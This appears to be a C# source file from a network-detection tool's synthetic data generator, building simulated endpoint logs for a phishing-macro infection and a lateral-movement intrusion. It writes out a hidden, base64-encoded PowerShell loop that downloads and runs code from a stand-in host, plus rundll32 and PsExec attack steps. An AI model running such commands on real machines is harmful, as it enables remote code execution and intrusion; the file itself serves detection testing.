using NetSensor.Wire;

namespace NetSensor.Generator.Endpoints;

/// <summary>What agents on some machines of a capture would have written of it.</summary>
public sealed class EndpointScenario(IReadOnlyList<Endpoint> endpoints)
{
    private const string System32 = @"C:\Windows\System32\";

    /// <summary>
    /// The office: on WS-23 a document began an encoded PowerShell that calls home; WS-24 is a colleague's. Clocks are wrong, WS-23 tells of a loopback
    /// connection and of one through a VPN as well.
    /// </summary>
    public static EndpointScenario Office()
    {
        const string anna = @"OFFICE\anna";
        var begin = Timestamp.FromUnix(1_790_000_000);
        var ill = Desk("WS-23.office.example", "10.20.0.23", TimeSpan.FromSeconds(2.5), anna, begin);
        var (shell, browser, updates) = (ill.Programs[0], ill.Programs[1], ill.Programs[2]);
        var word = new RunningProgram(@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", """
            "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\anna\Downloads\Invoice_0921.docm" /o ""
            """, 5012, begin + TimeSpan.FromSeconds(240)) { Parent = shell, User = anna, OriginalName = "WinWord.exe" };
        const string script = "$c=New-Object Net.WebClient;while(1){IEX $c.DownloadString('https://cdn-telemetry.example/t');Start-Sleep 60}";
        var implant = new RunningProgram(System32 + @"WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoP -W Hidden -Enc " + Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(script)),
            6644, begin + TimeSpan.FromSeconds(296)) { Parent = word, User = anna, OriginalName = "PowerShell.EXE" };
        var home = IpAddr.Parse("192.31.196.77");
        var told = new Endpoint(ill.Name, "10.20.0.23", ill.Ahead)
        {
            OwnerOf = seen => seen.Destination == home || seen.Query == "cdn-telemetry.example" ? implant : seen.DestinationPort == 80 || seen.Query == "updates.vendor.example" ? updates : browser,
        };
        told.Programs.AddRange([.. ill.Programs, word, implant]);
        var local = new Sighting(begin + TimeSpan.FromSeconds(400), IpAddr.Parse("127.0.0.1"), 50000, IpAddr.Parse("127.0.0.1"), 8080, null);
        told.Unseen.Add((local, browser));
        told.Unseen.Add((local with { Source = IpAddr.Parse("172.30.9.4"), SourcePort = 50001, Destination = IpAddr.Parse("172.30.0.1"), DestinationPort = 443 }, browser));
        return new EndpointScenario([told, Desk("WS-24.office.example", "10.20.0.24", TimeSpan.FromSeconds(-41), @"OFFICE\bert", begin)]);
    }

    /// <summary>The intrusion: rundll32 calls home on PC-003 and goes on to PC-000 by a service, where another implant sits in an empty rundll32.</summary>
    public static EndpointScenario Intrusion()
    {
        const string admin = @"OFFICE\admin.it";
        var begin = Timestamp.FromUnix(1_790_089_500);
        var explorer = new RunningProgram(@"C:\Windows\explorer.exe", @"C:\Windows\explorer.exe", 3300, begin) { User = admin };
        var script = new RunningProgram(System32 + "wscript.exe", """
            "C:\Windows\System32\wscript.exe" "C:\Users\admin.it\AppData\Local\Temp\Rar$0\Order.js"
            """, 4100, begin + TimeSpan.FromSeconds(20)) { Parent = explorer, User = admin, OriginalName = "wscript.exe" };
        var implant = new RunningProgram(System32 + "rundll32.exe", @"rundll32.exe C:\Users\admin.it\AppData\Local\Temp\ui.dat,Start", 4188, begin + TimeSpan.FromSeconds(40))
            { Parent = script, User = admin, OriginalName = "RUNDLL32.EXE" };
        var first = new Endpoint("PC-003.office.example", "10.44.16.3", TimeSpan.FromSeconds(-3.2)) { OwnerOf = seen => seen.Destination == IpAddr.Parse("10.44.16.3") ? null : implant };
        first.Programs.AddRange([explorer, script, implant]);
        const string system = @"NT AUTHORITY\SYSTEM";
        var services = new RunningProgram(System32 + "services.exe", System32 + "services.exe", 720, begin) { User = system, OriginalName = "services.exe" };
        var hollow = new RunningProgram(System32 + "rundll32.exe", System32 + "rundll32.exe", 5200, begin + TimeSpan.FromSeconds(30)) { Parent = services, User = system, OriginalName = "RUNDLL32.EXE" };
        var service = new RunningProgram(System32 + "cmd.exe", @"cmd.exe /c C:\Windows\PSEXESVC.exe", 6001, Timestamp.FromUnix(1_790_089_920, 60_000_000)) { Parent = services, User = system, OriginalName = "Cmd.Exe" };
        var second = new Endpoint("PC-000.office.example", "10.44.16.0", TimeSpan.FromSeconds(95)) { OwnerOf = _ => hollow };
        second.Programs.AddRange([services, hollow, service]);
        return new EndpointScenario([first, second]);
    }

    /// <summary>The log, in the order in which the agents told it.</summary>
    public IEnumerable<string> Write(IEnumerable<Sighting> sightings, EndpointShape shape)
    {
        var writer = new EndpointLogWriter(shape);
        var lines = new List<(Timestamp Time, Func<string> Write)>();
        var seen = sightings.ToLookup(sighting => sighting.Source);
        foreach (var endpoint in endpoints)
        {
            lines.AddRange(endpoint.Programs.Select(program => (program.Begin, (Func<string>)(() => writer.Start(endpoint, program)))));
            foreach (var sighting in seen[endpoint.Address])
                if (endpoint.OwnerOf(sighting) is { } owner) lines.Add((sighting.Time, () => writer.Seen(endpoint, owner, sighting)));
            lines.AddRange(endpoint.Unseen.Select(unseen => (unseen.Sighting.Time, (Func<string>)(() => writer.Seen(endpoint, unseen.Owner, unseen.Sighting)))));
        }
        return lines.OrderBy(line => line.Time).Select(line => line.Write());
    }

    /// <summary>An ordinary desk: a shell, a browser, and an agent that looks for updates.</summary>
    private static Endpoint Desk(string name, string address, TimeSpan ahead, string user, Timestamp begin)
    {
        var shell = new RunningProgram(@"C:\Windows\explorer.exe", @"C:\Windows\explorer.exe", 4120, begin) { User = user, OriginalName = "EXPLORER.EXE" };
        var browser = new RunningProgram(@"C:\Program Files\Google\Chrome\Application\chrome.exe", @"""C:\Program Files\Google\Chrome\Application\chrome.exe""", 4700, begin + TimeSpan.FromSeconds(1))
            { Parent = shell, User = user, OriginalName = "chrome.exe" };
        var updates = new RunningProgram(@"C:\Program Files\Vendor\updater.exe", @"""C:\Program Files\Vendor\updater.exe"" --service", 1800, begin) { User = @"NT AUTHORITY\SYSTEM", OriginalName = "updater.exe" };
        var desk = new Endpoint(name, address, ahead) { OwnerOf = seen => seen.DestinationPort == 80 || seen.Query == "updates.vendor.example" ? updates : browser };
        desk.Programs.AddRange([shell, browser, updates]);
        return desk;
    }
}
